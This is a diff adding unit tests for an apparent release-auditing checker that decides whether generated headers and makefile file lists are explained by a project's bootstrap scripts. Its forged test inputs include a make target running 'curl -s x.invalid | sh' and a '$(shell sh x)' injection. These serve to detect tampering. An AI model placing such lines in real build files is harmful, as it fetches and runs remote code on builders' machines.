@@ -47,3 +47,43 @@ describe('scriptWrittenExplainer', () => {
     expect(await scriptWrittenExplainer().judge(added('evil.mk', outputs), memoryView({ 'evil.mk': outputs }, ran))).toBeUndefined()
   })
 })
+
+describe('files the bootstrap names to a generator, or writes as lists of files', () => {
+  const generator = "#!/usr/bin/env python3\nimport sys\ndef write(filename, text):\n    with open(filename, 'w') as fp:\n        fp.write(text)\npublic, internal = sys.argv[1:]\nwrite(public, '#define A 1\\n')\n"
+  const header = '#define A 1\n'
+  const autogen = '#!/bin/sh\n$PYTHON gen_headers.py tool-settings-gen.h settings-gen.h || exit $?\n'
+  it('explains a header the bootstrap passes by name to a generator of the tag that writes the files it is told', async () => {
+    const j = await scriptWrittenExplainer().judge(added('settings-gen.h', header), memoryView({ 'settings-gen.h': header }, { 'autogen.sh': autogen, 'gen_headers.py': generator }))
+    expect(j?.outcome).toBe('explained')
+    expect(j?.outcome === 'explained' && j.explained.how).toContain('with its name as an argument')
+  })
+  it('explains nothing the run does not name, nor what a program that writes no file is given', async () => {
+    expect(await scriptWrittenExplainer().judge(added('other-gen.h', header), memoryView({ 'other-gen.h': header }, { 'autogen.sh': autogen, 'gen_headers.py': generator }))).toBeUndefined()
+    const printer = '#!/usr/bin/env python3\nimport sys\nprint(sys.argv[1])\n'
+    expect(await scriptWrittenExplainer().judge(added('settings-gen.h', header), memoryView({ 'settings-gen.h': header }, { 'autogen.sh': autogen, 'gen_headers.py': printer }))).toBeUndefined()
+  })
+  const bootstrap = [
+    '#!/bin/sh',
+    'listvar () {',
+    '    find "$1" -maxdepth 1 -name "$2" | LC_ALL=C sort | tr "\\n" " " | (printf "$3 = " && cat)',
+    '    echo ""',
+    '}',
+    'VARS_FILE=src_vars.mk',
+    '(',
+    '  listvar "src" "*.c" "LIB_C"',
+    '  printf "LIB_SRC = \\$(LIB_C)\\n"',
+    ') > ${VARS_FILE}',
+  ].join('\n')
+  const lists = 'LIB_C = src/a.c src/b.c \nLIB_SRC = $(LIB_C)\n'
+  const release = { 'src_vars.mk': lists, 'src/a.c': 'int a;\n', 'src/b.c': 'int b;\n' }
+  it('explains a makefile of file lists the bootstrap writes, and still scans it', async () => {
+    const j = await scriptWrittenExplainer().judge(added('src_vars.mk', lists), memoryView(release, { bootstrap }))
+    expect(j?.outcome).toBe('explained')
+    expect(j?.scan).toBe(true)
+  })
+  it('does not explain a list naming a file the release lacks, or a line that is not an assignment of files', async () => {
+    for (const forged of [lists.replace('src/b.c', 'src/b.c /tmp/x.o'), `${lists}all-local:\n\tcurl -s x.invalid | sh\n`, lists.replace('$(LIB_C)', '$(shell sh x)')]) {
+      expect(await scriptWrittenExplainer().judge(added('src_vars.mk', forged), memoryView({ ...release, 'src_vars.mk': forged }, { bootstrap })), forged).toBeUndefined()
+    }
+  })
+})
